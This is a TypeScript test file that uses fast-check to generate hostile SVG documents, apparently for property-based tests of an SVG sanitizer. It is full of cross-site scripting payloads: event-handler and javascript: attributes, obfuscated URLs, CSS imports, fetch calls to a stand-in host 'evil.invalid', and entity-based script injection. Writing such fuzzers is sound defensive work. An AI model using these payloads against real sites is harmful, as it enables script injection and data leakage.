/** SVGs as somebody may write them who wants more than to draw, for tests of what passes. */

import fc from 'fast-check';

const run = 'top.postMessage(1);window.ran=1;fetch(`//evil.invalid/`)';
const outside = fc.constantFrom(
  'https://evil.invalid/a.svg#x',
  '//evil.invalid/a.svg',
  'javascript:window.ran=1',
  ' java&#10;script:window.ran=1',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"/>'
    .replaceAll('<', '&lt;')
    .replaceAll('"', '&quot;'),
  'data:text/html,x',
  'other.svg#x',
);
const inside = fc.constantFrom('#x', '#leaf-1', 'data:image/png;base64,iVBORw0KGgo=');
const address = fc.oneof(outside, inside);

const attribute = fc.oneof(
  fc
    .constantFrom('onload', 'onclick', 'ONLOAD', 'onbegin', 'onerror', 'onfocusin')
    .map((name) => ` ${name}="${run}"`),
  fc
    .tuple(fc.constantFrom('href', 'xlink:href', 'src', 'xml:base', 'x:href'), address)
    .map(([name, value]) => ` ${name}="${value}"`),
  fc
    .tuple(
      fc.constantFrom('fill', 'style', 'filter', 'mask', 'cursor', 'clip-path'),
      fc.constantFrom(
        'url(#x)',
        'url(https://evil.invalid/)',
        '\\75rl(//evil.invalid/)',
        'background:url(//evil.invalid/)',
        'image-set(&quot;//evil.invalid/&quot; 1x)',
        'red',
        'fill:red',
      ),
    )
    .map(([name, value]) => ` ${name}="${value}"`),
  fc.constantFrom(
    ' id="x"',
    ' tabindex="0"',
    ' attributeName="href"',
    ' attributeName="onload"',
    ' attributeName="x"',
    ' values="javascript:window.ran=1;#x"',
    ' to="javascript:window.ran=1"',
    ' begin="0s"',
    ' dur="1s"',
    ' d="M1 1"',
    ' width="9"',
    ' xmlns="http://www.w3.org/1999/xhtml"',
    ' xmlns:x="http://www.w3.org/2000/svg"',
    ' xmlns:x="http://www.w3.org/1999/xlink"',
    ' xmlns:y="http://www.inkscape.org/namespaces/inkscape"',
    ' y:label="C:\\tea"',
  ),
);

const name = fc.constantFrom(
  ...['g', 'path', 'use', 'image', 'a', 'set', 'animate', 'style', 'text', 'title', 'metadata'],
  ...[
    'script',
    'SCRIPT',
    'x:script',
    'foreignObject',
    'iframe',
    'handler',
    'listener',
    'img',
    'object',
  ],
  ...['feImage', 'linearGradient', 'x:g', 'y:namedview', 'embed', 'link', 'base', 'meta', 'video'],
);
const text = fc.constantFrom(
  '',
  run,
  '@import "//evil.invalid/a.css";',
  '@font-face{font-family:x;src:url(//evil.invalid/x)}',
  '*{fill:url(#x)}',
  '&evil;',
  '<![CDATA[<script>window.ran=1</script>]]>',
  '<!-- --><!---->',
  '<?xml-stylesheet href="//evil.invalid/a.xsl" type="text/xsl"?>',
);

const { element } = fc.letrec<{ element: string }>((tie) => ({
  element: fc
    .tuple(
      name,
      fc.array(attribute, { maxLength: 3 }),
      text,
      fc.oneof({ depthSize: 'small', withCrossShrink: true }, fc.constant(''), tie('element')),
    )
    .map(
      ([tag, attributes, words, child]) =>
        `<${tag}${attributes.join('')}>${words}${child}</${tag}>`,
    ),
}));

const head = fc.oneof(
  { weight: 12, arbitrary: fc.constant('') },
  fc.constantFrom(
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<?xml version="1.0" encoding="ISO-2022-JP"?>',
    '<!DOCTYPE svg [<!ENTITY evil "<script xmlns=\'http://www.w3.org/2000/svg\'>window.ran=1</script>">]>',
    '<?xml-stylesheet href="//evil.invalid/a.css"?>',
    '<!-- drawn by hand -->',
  ),
);
const spaces =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:x="http://www.w3.org/1999/xhtml" xmlns:y="urn:editor"';

/** A whole file. */
export const hostileSvg = fc
  .tuple(head, fc.array(attribute, { maxLength: 1 }), fc.array(element, { maxLength: 3 }))
  .map(
    ([before, attributes, inner]) =>
      `${before}<svg ${spaces}${attributes.join('')}>${inner.join('')}</svg>`,
  );
